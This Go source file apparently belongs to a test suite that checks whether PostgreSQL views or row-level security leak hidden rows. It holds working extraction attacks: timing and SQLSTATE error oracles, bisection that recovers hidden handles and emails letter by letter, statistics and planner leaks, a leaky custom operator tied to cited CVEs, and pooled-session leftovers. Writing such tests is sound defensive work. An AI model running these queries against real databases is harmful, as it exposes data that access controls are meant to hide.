package bypass

import (
	"encoding/binary"
	"fmt"
	"strconv"
	"strings"

	"github.com/jackc/pgx/v5/pgproto3"
)

// statistics is about what PostgreSQL tells of rows without showing them: rows 8
// to 12.
func statistics() []attack {
	return []attack{
		{name: "08-estimates", every: true, run: estimates},
		{name: "08-time", every: true, run: timeSpent},
		{name: "08-scanned-rows", run: scannedRows},
		{name: "09-sizes", run: sizes},
		{name: "09-reltuples", run: reltuples, known: "how many rows a table has, estimated"},
		{name: "10-column-statistics", every: true, run: columnStatistics},
		{name: "11-leaky-operator", every: true, run: leakyOperator},
		{name: "11-pooled-session", run: pooledSession},
		{name: "12-division", every: true, run: oracle("22012", "1 / (length(handle) - length(handle))", "1 / (random() * 0)")},
		{name: "12-overflow", every: true, run: oracle("22003", "9223372036854775807 * length(handle)", "exp(random() + 1000000)")},
		{name: "12-cast", every: true, run: oracle("22P02", "handle::integer", "random()::text::boolean")},
		{name: "12-bisection", every: true, run: bisection},
	}
}

// values are the first columns of the rows, as text.
func (a answer) values() (all []string) {
	for _, m := range a {
		if m.kind != 'D' || len(m.body) < 6 {
			continue
		}
		if n := int32(binary.BigEndian.Uint32(m.body[2:])); n >= 0 {
			all = append(all, string(m.body[6:6+n]))
		}
	}
	return all
}

// estimates asks the planner how many rows it expects behind a count, which knows
// of values that only hidden rows have.
func estimates(t *target) (found []string) {
	c := t.connect()
	for _, sql := range []string{
		"EXPLAIN SELECT country, count(*) FROM users GROUP BY country HAVING count(*) > 10", "EXPLAIN (FORMAT yaml) SELECT count(*) FROM users WHERE country = 'DE'",
		"PREPARE k AS SELECT count(*) FROM users", "EXPLAIN (VERBOSE) EXECUTE k", "LOAD 'auto_explain'", "SET auto_explain.log_min_duration = 0",
	} {
		found = append(found, plan(c.query(sql))...)
	}
	c.send(append(extended("explain (format xml) SELECT count(*) FROM users", 0, 0), &pgproto3.Sync{})...)
	return append(found, plan(c.until(1))...)
}

// timeSpent makes hidden rows slow: a statement that never ends has met one.
func timeSpent(t *target) []string {
	c := t.connect()
	c.query("SET statement_timeout = '1500ms'")
	if c.query("SELECT FROM users WHERE CASE WHEN handle = '"+t.other.handle+"' THEN pg_sleep(3600) END IS NULL").state() == "57014" {
		return []string{"by the time it takes, that a hidden row has this handle"}
	}
	return nil
}

// scannedRows asks how many rows a statement went through beneath the view.
func scannedRows(t *target) (found []string) {
	c := t.connect()
	for _, counter := range []string{
		"pg_stat_get_xact_tuples_returned(oid)", "pg_stat_get_xact_tuples_fetched(oid)", "pg_stat_get_tuples_returned(oid)",
		"(SELECT seq_tup_read + idx_tup_fetch FROM pg_stat_xact_all_tables x WHERE x.relid = c.oid)",
	} {
		for _, sql := range []string{"BEGIN", "SELECT count(*) FROM users"} {
			c.query(sql)
		}
		if n := c.query("SELECT " + counter + " FROM pg_class c WHERE relname = 'users' AND relkind = 'r'").values(); len(n) > 0 {
			found = append(found, "rows scanned beneath the view: "+n[0])
		}
		c.query("ROLLBACK")
	}
	return found
}

// sizes asks for everything by which a table's rows can be counted from outside.
func sizes(t *target) (found []string) {
	c := t.connect()
	for _, f := range []string{
		"pg_relation_size(oid)", "pg_relation_size(oid, 'fsm')", "pg_table_size(oid)", "pg_total_relation_size(oid)", "pg_indexes_size(oid)",
		"pg_database_size(current_database())", "pg_tablespace_size('pg_default')", "pg_relation_filepath(oid)", "pg_stat_get_live_tuples(oid)",
		"pg_stat_get_blocks_fetched(oid)", "(SELECT n_live_tup FROM pg_stat_all_tables x WHERE x.relid = c.oid)",
	} {
		if n := c.query("SELECT " + f + " FROM pg_class c WHERE relname = 'users' AND relkind = 'r'").values(); len(n) > 0 {
			found = append(found, f+" = "+n[0])
		}
	}
	return found
}

// reltuples is the planner's count of a table's rows. Whoever may read pg_class,
// as every client must, may read it.
func reltuples(t *target) []string {
	t.exec("ANALYZE public.users")
	n := t.connect().query("SELECT reltuples FROM pg_class WHERE relname = 'users' AND relkind = 'r' AND reltuples > 0").values()
	if len(n) > 0 {
		return []string{"how many rows a table has, estimated"}
	}
	return nil
}

// columnStatistics reads the commonest values and the histogram of a column, which
// a role sees of all rows wherever it may read the column.
func columnStatistics(t *target) (found []string) {
	t.exec("ANALYZE public.users", "ANALYZE public.orders")
	c := t.connect()
	for _, sql := range []string{
		"SELECT histogram_bounds::text FROM pg_stats WHERE schemaname !~ '^(pg_|information_schema)' AND histogram_bounds IS NOT NULL",
		"SELECT most_common_vals::text FROM pg_stats WHERE schemaname !~ '^(pg_|information_schema)' AND most_common_vals IS NOT NULL",
		"SELECT stavalues1::text FROM pg_statistic", "SELECT stxdmcv::text FROM pg_statistic_ext_data", "SELECT most_common_vals::text FROM pg_stats_ext",
	} {
		if n := c.query(sql).rows(); n > 0 {
			found = append(found, fmt.Sprintf("statistics of %d columns: %s", n, sql))
		}
	}
	return found
}

// leakyOperator brings an operator of its own, to which the planner shows sampled
// values before a row is read (CVE-2017-7484, CVE-2019-10130, CVE-2025-8713).
func leakyOperator(t *target) (found []string) {
	t.exec("ANALYZE public.users")
	c := t.connect()
	c.query("CREATE FUNCTION pg_temp.peek(text, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', $1; RETURN true; END $$")
	c.query("CREATE OPERATOR pg_temp.<<<< (FUNCTION = pg_temp.peek, LEFTARG = text, RIGHTARG = text, RESTRICT = scalarltsel)")
	for _, m := range c.query("SELECT id FROM users WHERE handle OPERATOR(pg_temp.<<<<) 'x' LIMIT 0") {
		if m.kind == 'N' && c.query("SELECT FROM users WHERE handle = '"+m.field('M')+"'").rows() == 0 {
			return []string{"a sampled value of a hidden row: " + m.field('M')}
		}
	}
	return nil
}

// pooledSession looks for what somebody else's session left behind. A plan made
// for one person and run for another is CVE-2023-2455.
func pooledSession(t *target) (found []string) {
	c := t.connect()
	t.permit()
	for _, sql := range []string{
		"SELECT set_config('note.one', 'letter to anna.holm', false)", "PREPARE k AS SELECT 'letter to anna.holm'::text",
		"BEGIN", "DECLARE k CURSOR WITH HOLD FOR SELECT 'letter to anna.holm'::text", "COMMIT", "CREATE TEMP TABLE k AS SELECT 'letter to anna.holm' AS note",
	} {
		c.query(sql)
	}
	c.leave()
	c = t.connect()
	for _, sql := range []string{
		"SELECT current_setting('note.one', true)", "EXECUTE k", "SELECT statement FROM pg_prepared_statements", "FETCH ALL FROM k", "SELECT statement FROM pg_cursors",
		"SELECT note FROM pg_temp.k",
	} {
		if c.query(sql).contains("letter to anna.holm") {
			found = append(found, "what an earlier session left: "+sql)
		}
	}
	return found
}

// oracle has an expression fail on hidden rows alone: its SQLSTATE tells that there
// is one. Of an expression without a column PostgreSQL thinks that it can tell
// nothing of a row, and runs it beneath a security barrier, too.
func oracle(state string, expressions ...string) func(*target) []string {
	return func(t *target) []string {
		c := t.connect()
		for _, expr := range expressions {
			a := c.query("SELECT FROM users WHERE CASE WHEN handle = '" + t.other.handle + "' THEN " + expr + " END IS NULL")
			if a.state() == state {
				return []string{"by SQLSTATE " + state + ", that a hidden row has this handle"}
			}
		}
		return nil
	}
}

// bisection finds hidden texts letter by letter, one comparison a query, told by an
// error or by a row.
func bisection(t *target) (found []string) {
	const byError = "SELECT FROM users WHERE CASE WHEN id = $id AND $column >= $text THEN 1 / (random() * 0) END IS NULL"
	const byRow = "SELECT FROM users WHERE id = $id AND $column >= $text"
	c := t.connect()
	for _, sql := range []string{byError, byRow} {
		for column, secret := range map[string]string{"handle": t.other.handle, "email": t.other.email} {
			got := guess(len(secret), func(text string) bool {
				a := c.query(strings.NewReplacer("$id", strconv.FormatInt(t.other.id, 10), "$column", column+` COLLATE "C"`, "$text", "'"+text+"'").Replace(sql))
				return a.state() == "22012" || sql == byRow && a.rows() > 0
			})
			if got == secret {
				found = append(found, "a hidden "+column+", letter by letter: "+got)
			}
		}
	}
	return found
}

// guess finds a text of at most so many bytes by asking whether it is at least another.
func guess(length int, atLeast func(string) bool) (text string) {
	for len(text) < length && atLeast(text+" ") {
		lo, hi := byte(' '), byte('z') // the letter is between them
		for lo < hi {
			mid := lo + (hi-lo+1)/2
			if mid == '\'' || mid == '\\' {
				mid++
			}
			if mid <= hi && atLeast(text+string(rune(mid))) {
				lo = mid
			} else {
				hi = mid - 1
			}
		}
		text += string(rune(lo))
	}
	return text
}
